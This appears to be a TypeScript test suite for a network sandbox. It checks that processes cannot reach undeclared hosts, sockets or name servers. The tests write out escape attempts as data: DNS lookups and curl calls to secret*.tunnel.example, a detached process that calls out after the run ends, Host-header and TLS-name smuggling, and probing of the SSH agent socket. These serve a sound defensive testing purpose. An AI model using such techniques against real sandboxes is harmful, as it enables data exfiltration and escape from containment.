/** Ways round the sandbox of `run`, as root and as an ordinary user: nothing leaves but to what is declared. */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, watch, writeFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { promisify } from 'node:util';
import { findTool, needs } from '../integration/tools.ts';
import { type Outcome, runSandboxed, sandboxNeeds, type Witnesses, witnesses } from './sandbox-support.ts';
import { WAYS } from './sandbox-ways.ts';

for (const user of ['nobody', 'root'] as const) {
  test(`nothing goes round the sandbox (${user})`, { skip: sandboxNeeds(user) }, async (t) => {
    const seen = await witnesses(t);
    const ways = WAYS.filter(({ name, tools = [] }) => {
      const missing = tools.filter((tool) => !findTool(tool));
      if (missing.length > 0) t.diagnostic(`not tried, as ${missing.join(', ')} is not there: ${name}`);
      return missing.length === 0;
    });
    const outcomes = await attempts(t, user, ways, seen);
    const untried = ways.filter(({ name }) => NOT_RUN.has(outcomes.get(name)?.code ?? 0));
    for (const { name } of untried) t.diagnostic(`not tried, as ${user} cannot run what it needs: ${name}`);
    assert.ok(ways.length - untried.length >= 40, `${ways.length} ways, ${untried.length} not tried`);
    const failures = ways.flatMap(({ name, atDeclared = false }) => {
      const outcome = outcomes.get(name);
      if (!outcome) return [`${name}: it came to no end`];
      const { code, output } = outcome;
      const isHeld = code !== 124 && !output.includes('REACHED') && (code !== 0 || (atDeclared && output.includes(DECLARED)));
      return isHeld ? [] : [`${name}: ${code}: ${output}`];
    });
    assert.deepEqual(failures, []);
    assert.deepEqual(seen.visits, []);
  });
}

/** By which a shell says that a program cannot be run, or is not there. */
const NOT_RUN: ReadonlySet<number> = new Set([126, 127]);

/** Resolves once the file is there. */
async function appears(file: string): Promise<void> {
  const watcher = watch(dirname(file));
  try {
    while (!existsSync(file)) await once(watcher, 'change');
  } finally {
    watcher.close();
  }
}

async function attempts(
  t: TestContext,
  user: 'nobody' | 'root',
  ways: readonly { readonly name: string; readonly script: string }[],
  seen: Witnesses,
): Promise<ReadonlyMap<string, Outcome>> {
  const folder = mkdtempSync(join(tmpdir(), 'sallyport-ways-'));
  t.after(() => rmSync(folder, { recursive: true }));
  chmodSync(folder, 0o755);
  const file = join(folder, 'ways.json');
  // Whether the sandbox carries anything at all shows as well.
  const control = { name: CONTROL, script: 'curl -sS -f -m 30 http://declared.example/' };
  writeFileSync(file, JSON.stringify([control, ...ways]));
  const { code, stdout, stderr } = await runSandboxed(t, user, ['node', join(import.meta.dirname, 'sandbox-inside.mjs')], {
    declared: seen.declaredPort,
    environment: { ...seen.environment, WAYS: file },
  });
  assert.equal(code, 0, stderr);
  assert.doesNotMatch(stderr, /Debugger/);
  const outcomes = new Map(
    stdout
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as Outcome & { name: string })
      .map((one) => [one.name, one]),
  );
  assert.ok(outcomes.get(CONTROL)?.output.includes(DECLARED), stderr);
  return outcomes;
}

const CONTROL = 'what is declared';
const DECLARED = 'declared answers';

test('a process that outlives the command, or its helper, reaches nothing', { skip: sandboxNeeds('nobody') }, async (t) => {
  const seen = await witnesses(t);
  const folder = mkdtempSync(join(tmpdir(), 'sallyport-outlives-'));
  t.after(() => rmSync(folder, { recursive: true }));
  chmodSync(folder, 0o777);
  const calls = "curl -sS -m 20 --noproxy '*' http://declared.example/ http://$WITNESS_HOST:$WITNESS_PORT/";
  const given = { declared: seen.declaredPort, environment: seen.environment };
  const fifo = join(folder, 'over');
  await promisify(execFile)('mkfifo', ['-m', '666', fifo]);
  // It calls once the run is over, and its reader waits for what it says.
  const late = `read -r _ <${fifo}; ${calls} >${folder}/late 2>&1; mv ${folder}/late ${folder}/late.done`;
  const survivor = `setsid sh -c '${late.replaceAll("'", "'\\''")}' </dev/null >/dev/null 2>&1 &`;
  const { code, stderr } = await runSandboxed(t, 'nobody', ['sh', '-c', survivor], given);
  assert.equal(code, 0, stderr);
  await writeFile(fifo, 'over\n');
  const killed = await runSandboxed(t, 'nobody', ['sh', '-c', `kill -9 $PPID; ${calls}`], given);
  assert.notEqual(killed.code, 0);
  assert.match(killed.stderr, /ended before it/);
  await appears(join(folder, 'late.done'));
  const said = readFileSync(join(folder, 'late.done'), 'utf8');
  assert.match(said, /Could not resolve host: declared.example\n.*Couldn't connect/s);
  assert.doesNotMatch(said, /REACHED|answers/);
  // Until the process outside has seen that its helper is gone, what is declared may still be reached, and nothing else.
  assert.doesNotMatch(killed.stdout, /REACHED/);
  assert.deepEqual(seen.visits, []);
});

test('names that nothing declares are asked of nobody', { skip: sandboxNeeds('root') }, async (t) => {
  const asked: string[] = [];
  const server = createSocket('udp4');
  server.on('message', (message) => asked.push(message.toString('latin1')));
  server.bind(53, '127.77.0.1');
  await once(server, 'listening');
  t.after(() => server.close());
  const folder = mkdtempSync(join(tmpdir(), 'sallyport-resolver-'));
  t.after(() => rmSync(folder, { recursive: true }));
  const conf = join(folder, 'resolv.conf');
  writeFileSync(conf, 'nameserver 127.77.0.1\noptions timeout:1 attempts:1\n');
  const script = [
    'getent hosts secret1.tunnel.example',
    "curl -sS --noproxy '*' http://secret2.tunnel.example/",
    'curl -sS http://secret3.tunnel.example/',
    'curl -sS -p http://secret4.tunnel.example/',
    'curl -sS -x "$ALL_PROXY" http://secret5.tunnel.example/',
    "curl -sS -H 'Host: secret6.tunnel.example' http://allowed.example/",
    "curl -sS -m 10 --noproxy '*' http://allowed.example/",
  ].join('; ');
  await runSandboxed(t, 'root', ['sh', '-c', script], { resolvConf: conf, options: ['--allow', 'allowed.example:80'] });
  // What is declared shows that the witness is asked at all.
  assert.ok(asked.some((message) => message.includes('allowed')));
  assert.deepEqual(
    asked.filter((message) => !message.includes('\u0007allowed\u0007example')),
    [],
  );
});

test('TLS for another name than that of the host is not passed on, nor to a private address that is not declared', {
  skip: sandboxNeeds('root'),
}, async (t) => {
  const seen = await witnesses(t);
  const folder = mkdtempSync(join(tmpdir(), 'sallyport-hosts-'));
  t.after(() => rmSync(folder, { recursive: true }));
  const hosts = join(folder, 'hosts');
  writeFileSync(hosts, '127.0.0.1 tls.example\n');
  const around = ['unshare', '-m', 'sh', '-c', `mount --bind ${hosts} /etc/hosts && exec "$@"`, 'sh'];
  const port = seen.environment.WITNESS_PORT;
  const call = (name: string) => `curl -sS -k -m 20 --connect-to ::tls.example:${port} https://${name}:${port}/`;
  const inside = (script: string, range = '=127.0.0.0/8') =>
    runSandboxed(t, 'root', ['sh', '-c', script], { around, options: ['--allow', `https://tls.example:${port}${range}`] });
  await inside(call('other.example'));
  assert.deepEqual(seen.visits, []);
  await inside(call('tls.example'), '');
  assert.deepEqual(seen.visits, []);
  await inside(call('tls.example'));
  assert.equal(seen.visits.length, 1);
});

test('unix sockets of the machine lead nowhere, but for those of agents, which are named and hidden where it is strict, and allowed ones', {
  skip: sandboxNeeds('nobody') || needs('python3'),
}, async (t) => {
  const folder = mkdtempSync(join(tmpdir(), 'sallyport-run-'));
  t.after(() => rmSync(folder, { recursive: true }));
  chmodSync(folder, 0o755);
  for (const name of ['bus', 'agent', 'other']) {
    const server = createServer((socket) => socket.end('REACHED\n')).listen(join(folder, name));
    await once(server, 'listening');
    t.after(() => server.close());
    chmodSync(join(folder, name), 0o777);
  }
  const environment = {
    XDG_RUNTIME_DIR: folder,
    SSH_AUTH_SOCK: join(folder, 'agent'),
    BUS: join(folder, 'bus'),
    OTHER: join(folder, 'other'),
  };
  const ask = (variable: string) =>
    `python3 -c 'import os, socket; s = socket.socket(socket.AF_UNIX); s.connect(os.environ["${variable}"]); print("${variable}", s.recv(100))'`;
  const words = ['sh', '-c', `${ask('BUS')}; ${ask('OTHER')}; ${ask('SSH_AUTH_SOCK')}`];
  for (const user of process.getuid?.() === 0 ? (['nobody', 'root'] as const) : (['nobody'] as const)) {
    const usual = await runSandboxed(t, user, words, { environment });
    assert.equal(usual.stdout, "SSH_AUTH_SOCK b'REACHED\\n'\n", usual.stderr);
    assert.match(usual.stderr, new RegExp(`sallyport: ${join(folder, 'agent')} is reachable.*--strict`));
    const strict = await runSandboxed(t, user, words, { environment, options: ['--strict'] });
    assert.equal(strict.stdout, '', strict.stderr);
    const allowed = await runSandboxed(t, user, words, { environment, options: ['--strict', '--allow-socket', environment.OTHER] });
    assert.equal(allowed.stdout, "OTHER b'REACHED\\n'\n", allowed.stderr);
  }
});

test('the witnesses would see what comes', { skip: needs('curl') }, async (t) => {
  const seen = await witnesses(t);
  const { WITNESS_HOST, WITNESS_PORT } = seen.environment;
  const { stdout } = await promisify(execFile)('curl', ['-sS', '--noproxy', '*', `http://${WITNESS_HOST}:${WITNESS_PORT}/`]);
  assert.match(stdout, /REACHED/);
  assert.equal(seen.visits.length, 1);
});
